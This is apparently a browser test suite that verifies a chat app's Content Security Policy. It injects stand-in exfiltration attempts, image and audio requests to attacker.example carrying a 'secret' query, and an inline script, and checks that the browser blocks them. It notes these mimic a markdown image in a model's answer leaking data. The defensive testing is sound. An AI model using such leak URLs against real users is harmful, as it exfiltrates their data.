import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { type EmbeddedServer, startEmbeddedServer } from "../support/embedded-server.ts";
import { chromiumAvailable, launchChromium } from "./chat-page.ts";

type Violation = { directive: string; blocked: string };

/** Records every CSP violation the page reports, from its first script on. */
async function recordViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const violations: Violation[] = [];
    (window as unknown as { violations: Violation[] }).violations = violations;
    document.addEventListener("securitypolicyviolation", (event) => {
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
}

function violationsOf(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { violations: Violation[] }).violations);
}

describe.skipIf(!chromiumAvailable)("the content security policies in a real browser", () => {
  let server: EmbeddedServer;
  let browser: Browser;

  beforeAll(async () => {
    server = await startEmbeddedServer({}, { settings: "plain" });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  test("the app runs under the strict policy with no violation; a remote image is blocked", async () => {
    const context = await browser.newContext();
    await recordViolations(context);
    const page = await context.newPage();
    const pageErrors: string[] = [];
    page.on("pageerror", (error) => pageErrors.push(error.message));

    const response = await page.goto(server.baseUrl);
    expect(response?.headers()["content-security-policy"]).toContain("script-src 'self';");
    await page.getByRole("tab", { name: "Sign up" }).click();
    await page.locator('input[name="name"]').fill("Csp Tester");
    await page.locator('input[name="email"]').fill(`csp-${crypto.randomUUID()}@example.test`);
    await page.locator('input[name="password"]').fill("correct horse battery");
    await page.getByRole("button", { name: "Create account" }).click();
    await page.getByRole("button", { name: "New chat" }).click();
    await page.locator("message-composer textarea").waitFor();

    // Lit's component styles apply without 'unsafe-inline': the composer is laid out, not bare.
    const composerDisplay = await page
      .locator("message-composer")
      .evaluate((element) => getComputedStyle(element).display);
    expect(composerDisplay).not.toBe("inline");
    expect(await violationsOf(page)).toEqual([]);
    expect(pageErrors).toEqual([]);

    // What a markdown image in a model's answer would become: the browser refuses to fetch it.
    await page.evaluate(() => {
      const image = document.createElement("img");
      image.src = "https://attacker.example/leak.png?secret=1";
      document.body.append(image);
    });
    await page.waitForFunction(
      () => (window as unknown as { violations: Violation[] }).violations.length > 0,
    );
    expect(await violationsOf(page)).toEqual([
      { directive: "img-src", blocked: "https://attacker.example/leak.png?secret=1" },
    ]);
    await context.close();
  }, 30_000);

  test("blob: images and audio of the page's own making load (previews, speech); remote audio does not", async () => {
    const context = await browser.newContext();
    await recordViolations(context);
    const page = await context.newPage();
    await page.goto(server.baseUrl);
    const loaded = await page.evaluate(async () => {
      const canvas = document.createElement("canvas");
      canvas.width = 4;
      canvas.height = 3;
      const png = await new Promise<Blob>((resolve) =>
        canvas.toBlob((blob) => resolve(blob as Blob), "image/png"),
      );
      const image = new Image();
      image.src = URL.createObjectURL(png);
      await image.decode();
      // A 1 ms mono 8 kHz WAV: the smallest audio a player loads.
      const wav = new Uint8Array(44 + 16);
      const view = new DataView(wav.buffer);
      wav.set(new TextEncoder().encode("RIFF"), 0);
      view.setUint32(4, 36 + 16, true);
      wav.set(new TextEncoder().encode("WAVEfmt "), 8);
      view.setUint32(16, 16, true);
      view.setUint16(20, 1, true);
      view.setUint16(22, 1, true);
      view.setUint32(24, 8000, true);
      view.setUint32(28, 16000, true);
      view.setUint16(32, 2, true);
      view.setUint16(34, 16, true);
      wav.set(new TextEncoder().encode("data"), 36);
      view.setUint32(40, 16, true);
      const audio = new Audio(URL.createObjectURL(new Blob([wav], { type: "audio/wav" })));
      await new Promise((resolve, reject) => {
        audio.addEventListener("loadedmetadata", resolve, { once: true });
        audio.addEventListener("error", () => reject(new Error("the blob: audio did not load")), {
          once: true,
        });
      });
      return { width: image.naturalWidth, duration: audio.duration };
    });
    expect(loaded.width).toBe(4);
    expect(loaded.duration).toBeGreaterThan(0);
    expect(await violationsOf(page)).toEqual([]);

    await page.evaluate(() => {
      const audio = new Audio("https://attacker.example/leak.mp3?secret=1");
      void audio.play().catch(() => undefined);
    });
    await page.waitForFunction(
      () => (window as unknown as { violations: Violation[] }).violations.length > 0,
    );
    expect(await violationsOf(page)).toEqual([
      { directive: "media-src", blocked: "https://attacker.example/leak.mp3?secret=1" },
    ]);
    await context.close();
  }, 30_000);

  test("/swagger: Swagger UI renders every operation offline, under the strict policy", async () => {
    const context = await browser.newContext();
    await recordViolations(context);
    const page = await context.newPage();
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(server.baseUrl)) elsewhere.push(request.url());
    });
    const response = await page.goto(`${server.baseUrl}/swagger`);
    expect(response?.headers()["content-security-policy"]).toContain("script-src 'self';");

    const openApi = (await (await fetch(`${server.baseUrl}/swagger/json`)).json()) as {
      paths: Record<string, Record<string, unknown>>;
    };
    const operations = Object.values(openApi.paths).reduce((sum, path) => sum + Object.keys(path).length, 0);
    await page.locator(".opblock").first().waitFor();
    expect(await page.locator(".opblock").count()).toBe(operations);
    expect(elsewhere).toEqual([]);
    expect(await violationsOf(page)).toEqual([]);

    // An injected inline script is still refused here.
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.injected = true";
      document.body.append(script);
    });
    await page.waitForFunction(
      () => (window as unknown as { violations: Violation[] }).violations.length > 0,
    );
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
    expect((await violationsOf(page)).map((violation) => violation.directive)).toEqual(["script-src-elem"]);
    await context.close();
  }, 30_000);
});
